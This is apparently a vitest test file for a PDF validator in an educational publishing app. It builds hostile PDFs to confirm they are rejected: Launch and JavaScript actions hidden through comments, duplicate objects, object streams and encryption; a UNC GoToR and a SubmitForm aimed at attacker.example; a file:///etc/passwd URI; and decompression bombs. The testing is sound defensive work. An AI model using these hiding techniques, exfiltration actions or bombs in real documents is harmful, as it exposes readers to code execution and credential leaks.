/**
 * Every hostile class of issue #12, built in the test (by hand or with the qpdf CLI) and shown
 * through the real validation path: the verdict an educator would get, with where the action is.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { validatePdf, type PdfVerdict } from '../../../shared/pdf/validate-pdf.js';
import { damageXref, handPdf, lzwZeros, objStmPdf, type Hiding, type ObjStmEncoding, type XrefDamage } from '../../helpers/hostile-pdf.js';
import { buildPdf, pdfString, simplePdf } from '../../helpers/make-pdf.js';

const codes = (verdict: PdfVerdict): string[] => verdict.reasons.map((r) => r.code);
const messages = (verdict: PdfVerdict): string => verdict.reasons.map((r) => r.message).join('\n');

const CATALOG = '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const CONTENT = new TextEncoder().encode('BT /F1 12 Tf 72 720 Td (Photosynthesis, week 3) Tj ET');
const LAUNCH = `<< /Type /Action /S /Launch /F ${pdfString('C:\\Windows\\System32\\calc.exe')} >>`;

function hidden(hiding: Hiding, action = LAUNCH): Uint8Array {
  return handPdf([
    { num: 1, body: CATALOG },
    { num: 2, body: PAGES },
    { num: 3, body: PAGE },
    { num: 4, body: '<< >>', stream: CONTENT },
    { num: 5, body: action, hiding },
    { num: 6, body: FONT },
  ]);
}

describe('actions hidden from a linear reading are found on the resolved graph', () => {
  it.each<[Hiding, string]>([
    ['comment', 'behind a % comment (the xref points into the line)'],
    ['string', 'inside a ( … ) string between objects'],
    ['duplicate', 'under a duplicate object number (the xref points at the hostile one)'],
    ['length-ref', 'after a stream with a misleading /Length n 0 R'],
  ])('rejects a Launch action %s — %s', async (hiding) => {
    const verdict = await validatePdf(hidden(hiding));
    expect(codes(verdict)).toContain('pdf.launch-action');
    expect(messages(verdict)).toContain('when the document is opened (OpenAction)');
    expect(verdict.metadata.activeContent).toContain('launch');
  });

  it('resolves an indirect action type (/S 7 0 R)', async () => {
    const bytes = handPdf([
      { num: 1, body: CATALOG },
      { num: 2, body: PAGES },
      { num: 3, body: PAGE },
      { num: 4, body: '<< >>', stream: CONTENT },
      { num: 5, body: `<< /S 7 0 R /F ${pdfString('calc.exe')} >>` },
      { num: 6, body: FONT },
      { num: 7, body: '/Launch' },
    ]);
    const verdict = await validatePdf(bytes);
    expect(codes(verdict)).toEqual(['pdf.launch-action']);
  });

  it.each(['hex', 'flate-png', 'hex-flate'] as const)('decodes an object stream in %s and finds the JavaScript link inside it', async (encoding) => {
    const bytes = objStmPdf(
      {
        1: '<< /Type /Catalog /Pages 2 0 R >>',
        2: PAGES,
        3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots 8 0 R >>',
        8: '[9 0 R]',
        9: `<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /JavaScript /JS ${pdfString('app.launchURL("http://x")')} >> >>`,
      },
      {},
      encoding,
    );
    const verdict = await validatePdf(bytes);
    expect(codes(verdict)).toContain('pdf.javascript');
    expect(messages(verdict)).toContain('a link on page 1');
  });

  it('finds a plain-text JavaScript annotation whose /Annots array sits in an object stream the raw scan cannot decode', async () => {
    const bytes = objStmPdf(
      { 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: PAGES, 3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots 8 0 R >>', 8: '[9 0 R]' },
      { 9: `<< /Type /Annot /Subtype /Widget /T (Grade) /Rect [0 0 10 10] /AA << /Fo << /S /JavaScript /JS (app.alert(1)) >> >> >>` },
      'hex',
    );
    const verdict = await validatePdf(bytes);
    expect(codes(verdict)).toContain('pdf.javascript');
    expect(messages(verdict)).toContain('the form field “Grade” on page 1, when it gets the focus');
  });
});

describe('actions by allow-list', () => {
  const withAction = (action: string, where: 'open' | 'link' | 'bookmark' = 'open'): Uint8Array =>
    simplePdf({
      catalog: where === 'open' ? '/OpenAction 10 0 R' : where === 'bookmark' ? '/Outlines 11 0 R' : '',
      firstPage: where === 'link' ? '/Annots [12 0 R]' : '',
      extra: [
        action,
        '<< /Type /Outlines /First 13 0 R /Last 13 0 R /Count 1 >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 10 0 R >>',
        `<< /Title ${pdfString('Week 1')} /Parent 11 0 R /A 10 0 R >>`,
      ],
    });

  it.each([
    ['GoToR to a UNC path (NTLM leak)', `<< /S /GoToR /F ${pdfString('\\\\attacker.example\\share\\x.pdf')} /D [0 /Fit] >>`, /GoToR to “\\\\attacker\.example\\share\\x\.pdf”, a network path/],
    ['GoToE to another file', `<< /S /GoToE /F ${pdfString('other.pdf')} /T << /R /C /N (a) >> >>`, /GoToE to “other\.pdf”/],
    ['SubmitForm on open', `<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>`, /SubmitForm to “https:\/\/attacker\.example\/collect”/],
    ['ImportData on open', `<< /S /ImportData /F (C:\\\\data.fdf) >>`, /ImportData/],
    ['ResetForm on open', '<< /S /ResetForm >>', /ResetForm/],
    ['a file:// URI', `<< /S /URI /URI (file:///etc/passwd) >>`, /“file:\/\/\/etc\/passwd”/],
  ])('rejects %s as pdf.unsafe-action, saying where it runs', async (_name, action, what) => {
    const verdict = await validatePdf(withAction(action));
    expect(codes(verdict)).toEqual(['pdf.unsafe-action']);
    expect(messages(verdict)).toMatch(what);
    expect(messages(verdict)).toContain('when the document is opened (OpenAction)');
  });

  it('rejects a javascript: link as JavaScript, naming the bookmark it hides behind', async () => {
    const verdict = await validatePdf(withAction('<< /S /URI /URI (javascript:app.alert(1)) >>', 'bookmark'));
    expect(codes(verdict)).toEqual(['pdf.javascript']);
    expect(messages(verdict)).toContain('the bookmark “Week 1”');
  });

  it('rejects a Launch action reached only through a /Next chain of a link', async () => {
    const verdict = await validatePdf(withAction(`<< /S /GoTo /D [100 0 R /Fit] /Next [<< /S /Named /N /NextPage >> ${LAUNCH}] >>`, 'link'));
    expect(codes(verdict)).toEqual(['pdf.launch-action']);
    expect(messages(verdict)).toContain('a link on page 1');
  });

  it.each([
    ['an https link', '<< /S /URI /URI (https://example.org/cells) >>', 'link'],
    ['a mailto link', '<< /S /URI /URI (mailto:teacher@example.org) >>', 'link'],
    ['a GoTo bookmark', '<< /S /GoTo /D [100 0 R /Fit] >>', 'bookmark'],
    ['a Named action on open', '<< /S /Named /N /FirstPage >>', 'open'],
    ['a ResetForm button (not on open)', '<< /S /ResetForm >>', 'link'],
  ] as const)('accepts %s', async (_name, action, where) => {
    const verdict = await validatePdf(withAction(action, where));
    expect(verdict.reasons).toEqual([]);
    expect(verdict.metadata.activeContent).toEqual([]);
  });
});

describe('XFA scripts: packets concatenated, parsed as namespaced XML', () => {
  const xfa = (packets: Array<{ data: string; filter?: 'hex' }>): Uint8Array => {
    const objects: Record<number, string | { dict: string; stream: string | Uint8Array }> = {
      1: '<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>',
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
      4: `<< /Fields [] /XFA [${packets.map((_, i) => `(p${i}) ${10 + i} 0 R`).join(' ')}] >>`,
    };
    packets.forEach((packet, i) => {
      objects[10 + i] =
        packet.filter === 'hex'
          ? { dict: '<< /Filter /ASCIIHexDecode >>', stream: `${Buffer.from(packet.data).toString('hex')}>` }
          : { dict: '<< >>', stream: packet.data };
    });
    return buildPdf(objects);
  };
  const template = (body: string): string =>
    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform>${body}</subform></template></xdp:xdp>`;

  it('finds a <script> split across two packets', async () => {
    const full = template('<field><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></field>');
    const cut = full.indexOf('<script') + 4;
    const verdict = await validatePdf(xfa([{ data: full.slice(0, cut) }, { data: full.slice(cut) }]));
    expect(codes(verdict)).toContain('pdf.javascript');
    expect(messages(verdict)).toContain('in the XFA form');
  });

  it('finds a script written with a namespace prefix (<t:script>)', async () => {
    const body = '<t:script xmlns:t="http://www.xfa.org/schema/xfa-template/3.3/">app.alert(1)</t:script>';
    const verdict = await validatePdf(xfa([{ data: template(body) }]));
    expect(codes(verdict)).toContain('pdf.javascript');
  });

  it('finds a script in an ASCIIHex-encoded packet', async () => {
    const verdict = await validatePdf(xfa([{ data: template('<script>app.alert(1)</script>'), filter: 'hex' }]));
    expect(codes(verdict)).toContain('pdf.javascript');
  });

  it('flags (does not reject) an XFA form without scripts', async () => {
    const verdict = await validatePdf(xfa([{ data: template('<field name="name"/>') }]));
    expect(verdict.reasons).toEqual([]);
    expect(verdict.warnings.map((w) => w.code)).toContain('pdf.xfa');
  });
});

describe('decompression bombs in every filter chain', () => {
  const MiB = 1024 * 1024;
  const pageWith = (stream: Uint8Array, filter: string): Uint8Array =>
    buildPdf({
      1: '<< /Type /Catalog /Pages 2 0 R >>',
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
      4: { dict: `<< /Filter ${filter} >>`, stream },
    });

  it('rejects an LZW bomb (~150 MB from ~115 KB)', async () => {
    const verdict = await validatePdf(pageWith(lzwZeros(20), '/LZWDecode'));
    expect(codes(verdict)).toEqual(['pdf.decompression-bomb']);
    expect(messages(verdict)).toContain('object 4 0');
  });

  it('rejects an ASCIIHex + Flate bomb', async () => {
    const inner = deflateSync(Buffer.alloc(136 * MiB));
    const verdict = await validatePdf(pageWith(new TextEncoder().encode(`${inner.toString('hex')}>`), '[/ASCIIHexDecode /FlateDecode]'));
    expect(codes(verdict)).toEqual(['pdf.decompression-bomb']);
  });

  it('rejects a RunLength-in-Flate bomb', async () => {
    // RunLength: 2 bytes → 128 zeros, then Flate on top.
    const rle = Buffer.alloc(2 * Math.ceil((136 * MiB) / 128));
    for (let i = 0; i < rle.length; i += 2) rle[i] = 129;
    const verdict = await validatePdf(pageWith(deflateSync(rle), '[/FlateDecode /RunLengthDecode]'));
    expect(codes(verdict)).toEqual(['pdf.decompression-bomb']);
  });

  it('accepts the same page when its LZW stream is an ordinary size', async () => {
    const verdict = await validatePdf(pageWith(lzwZeros(1), '/LZWDecode'));
    expect(codes(verdict)).not.toContain('pdf.decompression-bomb');
  });
});

// Encrypted files come from the qpdf CLI (installed here and on CI).
describe('encrypted with an empty user password (made with qpdf)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'lectern-hostile-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('decrypts object streams and rejects the Launch action inside them', async () => {
    const input = join(dir, 'plain.pdf');
    const output = join(dir, 'encrypted.pdf');
    writeFileSync(input, simplePdf({ catalog: '/OpenAction 10 0 R', extra: [LAUNCH] }));
    const run = spawnSync('qpdf', ['--object-streams=generate', '--encrypt', '', 'owner', '256', '--', input, output]);
    expect([0, 3]).toContain(run.status);
    const bytes = new Uint8Array(readFileSync(output));
    expect(Buffer.from(bytes).includes('/Launch')).toBe(false); // nothing for a scan to see
    const verdict = await validatePdf(bytes);
    expect(codes(verdict)).toEqual(['pdf.launch-action']);
    expect(messages(verdict)).toContain('when the document is opened (OpenAction)');
    expect(verdict.metadata.encrypted).toBe(true);
  });
});

describe('property: a clean PDF mutated around a hidden action is never published', () => {
  const dir = mkdtempSync(join(tmpdir(), 'lectern-hidden-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const ACTIONS = {
    launch: { source: (s: string) => `<< /S ${s} /F ${pdfString('calc.exe')} >>`, type: '/Launch', code: 'pdf.launch-action' },
    javascript: { source: (s: string) => `<< /S ${s} /JS ${pdfString('app.alert(1)')} >>`, type: '/JavaScript', code: 'pdf.javascript' },
    unc: { source: (s: string) => `<< /S ${s} /F ${pdfString('\\\\host\\share\\a.pdf')} /D [0 /Fit] >>`, type: '/GoToR', code: 'pdf.unsafe-action' },
    'javascript-uri': { source: (s: string) => `<< /S ${s} /URI (javascript:app.alert(1)) >>`, type: '/URI', code: 'pdf.javascript' },
  } as const;

  type Container = Hiding | `objstm-${ObjStmEncoding}` | 'encrypted';
  const hidden = fc.record({
    action: fc.constantFrom(...(Object.keys(ACTIONS) as Array<keyof typeof ACTIONS>)),
    indirectType: fc.boolean(),
    place: fc.constantFrom('open', 'link', 'page-open', 'bookmark'),
    container: fc.constantFrom<Container>('none', 'comment', 'string', 'duplicate', 'duplicate-later', 'length-ref', 'objstm-flate', 'objstm-hex', 'objstm-flate-png', 'objstm-hex-flate', 'encrypted'),
    // Half the variants also have their cross-reference data damaged, so that readers rebuild it.
    damage: fc.constantFrom<XrefDamage>('none', 'none', 'none', 'no-startxref', 'wrong-offsets', 'broken-xref'),
  });

  /**
   * Whether a reader resolves the action at all once the table is damaged: native qpdf (which
   * rebuilds the table itself) lists it among the objects. An object hidden behind a `%` or inside
   * a string is found through an intact table only; when the table is gone, no reader sees it.
   */
  function nativeQpdfResolves(bytes: Uint8Array, action: keyof typeof ACTIONS): boolean {
    const file = join(dir, 'damaged.pdf');
    writeFileSync(file, bytes);
    const run = spawnSync('qpdf', ['--json=2', '--json-stream-data=none', file], { encoding: 'latin1', maxBuffer: 64 * 1024 * 1024 });
    if (run.status !== 0 && run.status !== 3) return false;
    // An action dictionary: `/S` the type, or the object that holds it (7 0 R).
    return run.stdout.includes(`"/S": "${ACTIONS[action].type}"`) || run.stdout.includes('"/S": "7 0 R"');
  }

  function build({ action, indirectType, place, container }: { action: keyof typeof ACTIONS; indirectType: boolean; place: string; container: Container }): Uint8Array {
    const spec = ACTIONS[action];
    const objects: Record<number, string> = {
      1: `<< /Type /Catalog /Pages 2 0 R ${place === 'open' ? '/OpenAction 5 0 R' : place === 'bookmark' ? '/Outlines 8 0 R' : ''} >>`,
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${place === 'link' ? '/Annots [9 0 R]' : ''} ${place === 'page-open' ? '/AA << /O 5 0 R >>' : ''} >>`,
      5: spec.source(indirectType ? '7 0 R' : spec.type),
      7: spec.type,
      8: '<< /Type /Outlines /First 10 0 R /Last 10 0 R /Count 1 >>',
      9: '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A 5 0 R >>',
      10: '<< /Title (Week 1) /Parent 8 0 R /A 5 0 R >>',
    };
    if (container.startsWith('objstm-')) return objStmPdf(objects, {}, container.slice('objstm-'.length) as ObjStmEncoding);
    const hiding: Hiding = container === 'encrypted' ? 'none' : (container as Hiding);
    const bytes = handPdf(Object.entries(objects).map(([num, body]) => ({ num: Number(num), body, ...(num === '5' ? { hiding } : {}) })));
    if (container !== 'encrypted') return bytes;
    const input = join(dir, 'in.pdf');
    const output = join(dir, 'out.pdf');
    writeFileSync(input, bytes);
    const run = spawnSync('qpdf', ['--object-streams=generate', '--encrypt', '', 'owner', '256', '--', input, output]);
    if (run.status !== 0 && run.status !== 3) throw new Error(`qpdf: ${run.stderr}`);
    return new Uint8Array(readFileSync(output));
  }

  it('rejects every variant for the action it hides', async () => {
    await fc.assert(
      fc.asyncProperty(hidden, async (variant) => {
        // A later definition the intact table does not point at is no reader's object: it is there for the damaged variants.
        const damage = variant.container === 'duplicate-later' && variant.damage === 'none' ? 'no-startxref' : variant.damage;
        const bytes = damageXref(build(variant), damage);
        const verdict = await validatePdf(bytes);
        // Every definition of an object counts in a damaged file, the earlier of two included.
        if (damage !== 'none' && variant.container !== 'duplicate' && !nativeQpdfResolves(bytes, variant.action)) {
          // No reader that rebuilds the table resolves the action: nothing to find, but nothing lost either.
          expect(verdict.ok).toBe(verdict.reasons.length === 0);
          return;
        }
        expect(verdict.ok).toBe(false);
        expect(codes(verdict)).toContain(ACTIONS[variant.action].code);
      }),
      { numRuns: 100 },
    );
  }, 600_000);
});

describe('the engine itself', () => {
  it('fails closed when qpdf cannot be loaded: nothing is published unchecked', async () => {
    const verdict = await validatePdf(simplePdf(), {}, { qpdfDir: '/nonexistent/qpdf' });
    expect(codes(verdict)).toEqual(['pdf.check-failed']);
    expect(messages(verdict)).toContain('qpdf');
  });
});
